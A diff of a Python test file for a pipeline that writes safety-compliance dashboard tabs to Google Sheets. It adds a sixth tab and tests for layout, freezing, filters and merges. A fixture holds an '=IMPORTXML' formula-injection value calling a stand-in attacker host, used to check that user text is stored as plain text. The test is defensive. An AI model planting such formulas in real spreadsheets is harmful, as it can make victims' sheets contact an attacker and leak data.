@@ -10,8 +10,23 @@ import pytest
 
 from jobs.sync import run_sync
 from pipeline.errors import SecorError
-from pipeline.outputs.dashboard import DATA_ISSUES, SUMMARY, TAB_NAMES, Sheet
+from pipeline.outputs.dashboard import (
+    ACTIONS,
+    CERTIFICATIONS,
+    CLOSE_DEFICIENCY,
+    DATA_ISSUES,
+    DEFICIENCIES,
+    READINESS,
+    SUMMARY,
+    TAB_NAMES,
+    TOP_HEADER,
+    Sheet,
+    dashboard_sheets,
+)
 from pipeline.outputs.sheets import cell, serial
+from pipeline.plan.model import ActionPlan
+from tests.outputs.dashboard_support import AS_OF, OFFICE_ISSUES, findings_with, plan
+from tests.outputs.test_dashboard_layout import HEADER_ROW, HEADERS, STATUSES
 
 from .data import FORMS, FORMS_KEY, OFFICE, OFFICE_KEY
 from .emulator import ACCOUNT
@@ -20,7 +35,7 @@ FORMULA = '=IMPORTXML("http://evil.example/x", "//a")'
 
 
 def sheets(n: int) -> tuple[Sheet, ...]:
-    """The five tabs with ``n`` rows on Data Issues and Deficiencies."""
+    """The six tabs with ``n`` rows on Data Issues and Deficiencies."""
     issues = pd.DataFrame({
         "Table": ["FLHA"] * n, "Row": list(range(2, n + 2)), "Column": ["Hazards"] * n,
         "Value": [FORMULA if i == 0 else f"text {i}" for i in range(n)], "Problem": ["required value is blank"] * n})
@@ -35,9 +50,11 @@ def sheets(n: int) -> tuple[Sheet, ...]:
     empty = pd.DataFrame(columns=["Worker", "Role", "Ticket", "Status", "Completed", "Expires", "Days Left"])
     readiness = pd.DataFrame([("Element 1", "E1.1 Safety policy", "Fail", "none", "")],
                              columns=["Element", "Check", "Status", "Detail", "Records"])
-    return (Sheet(TAB_NAMES[0], summary, "Status"), Sheet(TAB_NAMES[1], empty, "Status"),
-            Sheet(TAB_NAMES[2], deficiencies, "Status"), Sheet(TAB_NAMES[3], readiness, "Status"),
-            Sheet(TAB_NAMES[4], issues, None))
+    actions = pd.DataFrame([(date(2026, 11, 7), "Ravi Sandhu", "Renew Ravi Sandhu's H2S Alive")],
+                           columns=["Due", "Who", "What"])
+    return (Sheet(SUMMARY, summary, "Status", filter=False), Sheet(ACTIONS, actions),
+            Sheet(CERTIFICATIONS, empty, "Status"), Sheet(DEFICIENCIES, deficiencies, "Status"),
+            Sheet(READINESS, readiness, "Status"), Sheet(DATA_ISSUES, issues, None))
 
 
 def office(emulator):
@@ -55,7 +72,7 @@ def test_write_costs_the_same_requests_for_10_and_10000_rows(emulator, make_sour
         counts.append(len(calls))
         assert [(c["method"], c["path"].rsplit("/", 1)[-1]) for c in calls] == [
             ("GET", OFFICE_KEY), ("POST", f"{OFFICE_KEY}:batchUpdate")]
-        assert len(written) == 5 and all("docs.google.com/spreadsheets/d/" in w for w in written)
+        assert len(written) == 6 and all("docs.google.com/spreadsheets/d/" in w for w in written)
         assert book.tab(DATA_ISSUES).rows()[-1][3] == f"text {n - 1}"
         assert len(book.tab(DATA_ISSUES).rows()) == n + 1  # the 10,000 rows of the previous run are gone
         assert book.tab(DATA_ISSUES).grid["rowCount"] == n + 1
@@ -68,7 +85,7 @@ def test_text_is_written_as_text_never_as_a_formula(emulator, make_source):
     tab = book.tab(DATA_ISSUES)
     assert tab.value(1, 3) == FORMULA
     assert tab.entered_kind(1, 3) == "stringValue"
-    defs = book.tab(TAB_NAMES[2])
+    defs = book.tab(DEFICIENCIES)
     assert defs.entered_kind(1, 3) == "stringValue" and defs.value(1, 3) == "+1 brake light"
     assert defs.value(1, 2) == serial(date(2026, 9, 1))  # a date is a serial number with a date format
     assert defs.cells[(1, 2)]["userEnteredFormat"]["numberFormat"]["type"] == "DATE"
@@ -146,11 +163,11 @@ def test_sync_reads_and_writes_in_six_requests(emulator, make_settings):
     settings = make_settings([OFFICE_KEY, FORMS_KEY])
     result = run_sync(settings, as_of=date(2026, 10, 31))
     assert len(emulator.api_requests()) == 6  # 2 per spreadsheet read + 2 to write
-    assert len(result.written) == 5
+    assert len(result.written) == 6
     book = emulator.spreadsheets[OFFICE_KEY]
     assert book.tab(SUMMARY).rows()[1][:2] == ["Company", "Demo Company"]
-    assert book.tab(TAB_NAMES[1]).rows()[0] == ["Worker", "Role", "Ticket", "Status", "Completed", "Expires",
-                                                 "Days Left"]
+    assert book.tab(CERTIFICATIONS).rows()[0] == ["Worker", "Status", "Expires", "Ticket", "Days Left", "Role",
+                                                   "Completed"]
     emulator.clear_log()
     run_sync(settings, as_of=date(2026, 10, 31))  # the dashboards are not read back as sources
     assert len(emulator.api_requests()) == 6
@@ -188,3 +205,101 @@ def test_frozen_columns_left_by_the_office_do_not_stop_the_rewrite(emulator, mak
     src.write_dashboards(sheets(2))  # Data Issues has 5 columns: 6 frozen would be refused as "all"
     assert book.tab(DATA_ISSUES).properties["gridProperties"]["frozenColumnCount"] == 0
     assert len(book.tab(DATA_ISSUES).rows()) == 3
+
+
+def _dashboard(the_plan=None):
+    f = findings_with(FORMULA, plan(12) if the_plan is None else the_plan, OFFICE_ISSUES)
+    return dashboard_sheets(f, STATUSES, datetime(2026, 11, 21, 6, 0), "Google Sheets")
+
+
+def test_google_tabs_have_the_workbooks_columns_frozen_id_and_header(emulator, make_source):
+    book = office(emulator)
+    make_source([OFFICE_KEY]).write_dashboards(_dashboard())
+    frozen = {}
+    for title, headers in HEADERS.items():
+        tab = book.tab(title)
+        header = HEADER_ROW.get(title, 1) - 1
+        assert tab.rows()[header][:len(headers)] == headers, title
+        grid = tab.grid
+        frozen[title] = (grid["frozenRowCount"], grid["frozenColumnCount"])
+    assert frozen == {SUMMARY: (1, 1), ACTIONS: (1, 0), CERTIFICATIONS: (1, 1), DEFICIENCIES: (2, 1),
+                      READINESS: (1, 1), DATA_ISSUES: (1, 0)}
+
+
+def test_google_readiness_is_a_number_formatted_as_percent(emulator, make_source):
+    book = office(emulator)
+    make_source([OFFICE_KEY]).write_dashboards(_dashboard())
+    tab = book.tab(SUMMARY)
+    r = [row[0] if row else "" for row in tab.rows()].index("Overall readiness")
+    assert tab.entered_kind(r, 1) == "numberValue" and 0 <= tab.value(r, 1) <= 1
+    assert tab.cells[(r, 1)]["userEnteredFormat"]["numberFormat"] == {"type": "PERCENT", "pattern": "0%"}
+
+
+def test_google_summary_has_no_filter_even_if_one_was_left_and_the_lists_have_theirs(emulator, make_source):
+    book = office(emulator)
+    src = make_source([OFFICE_KEY])
+    src.write_dashboards(_dashboard())
+    book.tab(SUMMARY).basic_filter = {"range": {"sheetId": book.tab(SUMMARY).sheet_id}}  # left by hand
+    src.write_dashboards(_dashboard())
+    assert book.tab(SUMMARY).basic_filter is None
+    assert book.tab(DEFICIENCIES).basic_filter["range"]["startRowIndex"] == 1  # the header, below the sentence
+    assert book.tab(DATA_ISSUES).basic_filter["range"]["startRowIndex"] == 0
+
+
+def test_google_deficiencies_sentence_spans_the_tab_and_rows_fit_their_text(emulator, make_source):
+    book = office(emulator)
+    src = make_source([OFFICE_KEY])
+    for _ in range(2):  # merging the same range again is accepted
+        src.write_dashboards(_dashboard())
+    tab = book.tab(DEFICIENCIES)
+    assert (tab.value(0, 0), tab.value(0, 1)) == CLOSE_DEFICIENCY
+    assert tab.cells[(0, 1)]["userEnteredFormat"]["wrapStrategy"] == "WRAP"
+    # Merged right of the frozen ID column: Google refuses to freeze part of a merged cell.
+    assert tab.merges == [(0, 1, 1, 10)] and tab.grid["frozenColumnCount"] == 1
+    assert tab.dimensions["ROWS"][0] > 21
+    assert {1, 2} <= tab.auto_resized["ROWS"]  # header and data rows sized by Sheets to their wrapped text
+    assert tab.entered_kind(2, 4) == "stringValue" and tab.value(2, 4) == FORMULA
+
+
+def test_google_actions_tab_and_the_summarys_top_actions_show_the_plan_as_given(emulator, make_source):
+    book = office(emulator)
+    the_plan = plan(12)
+    make_source([OFFICE_KEY]).write_dashboards(_dashboard(the_plan))
+    listed = book.tab(ACTIONS).rows()[1:]
+    assert [r[2] for r in listed] == [a.what for a in the_plan]
+    assert [r[10] for r in listed] == list(range(1, 13))
+    assert listed[0][0] == serial(date(2026, 11, 28))
+    summary = [r[0] if r else "" for r in book.tab(SUMMARY).rows()]
+    first = summary.index(TOP_HEADER) + 1
+    assert summary[first:first + 10] == [f"{a.rank}. {a.what}" for a in the_plan.top(10)]
+    assert book.tab(SUMMARY).cells[(first - 1, 0)]["userEnteredFormat"]["textFormat"]["bold"] is True
+
+
+def test_google_empty_plan_says_nothing_to_do(emulator, make_source):
+    book = office(emulator)
+    make_source([OFFICE_KEY]).write_dashboards(_dashboard(ActionPlan(AS_OF, ())))
+    assert book.tab(ACTIONS).rows()[1][2] == "Nothing to do as of 2026-11-21"
+
+
+def test_freezing_part_of_the_merged_sentence_is_refused_as_by_google(emulator, make_source):
+    """Why the sentence starts right of the ID column: a frozen column through a merged cell is refused."""
+    from gspread.exceptions import APIError
+
+    book = office(emulator)
+    src = make_source([OFFICE_KEY])
+    src.write_dashboards(_dashboard())
+    tab = book.tab(DEFICIENCIES)
+    freeze_two = {"updateSheetProperties": {"properties": {"sheetId": tab.sheet_id, "gridProperties": {
+        "frozenColumnCount": 2}}, "fields": "gridProperties.frozenColumnCount"}}
+    with pytest.raises(APIError, match="part of a merged cell"):
+        src.http.batch_update(OFFICE_KEY, {"requests": [freeze_two]})
+    assert tab.grid["frozenColumnCount"] == 1
+
+
+def test_a_merge_left_by_hand_on_a_dashboard_tab_does_not_stop_the_frozen_id_column(emulator, make_source):
+    book = office(emulator)
+    src = make_source([OFFICE_KEY])
+    src.write_dashboards(_dashboard())
+    book.tab(READINESS).merges.append((3, 4, 0, 3))  # someone merged A4:C4
+    src.write_dashboards(_dashboard())
+    assert book.tab(READINESS).merges == [] and book.tab(READINESS).grid["frozenColumnCount"] == 1
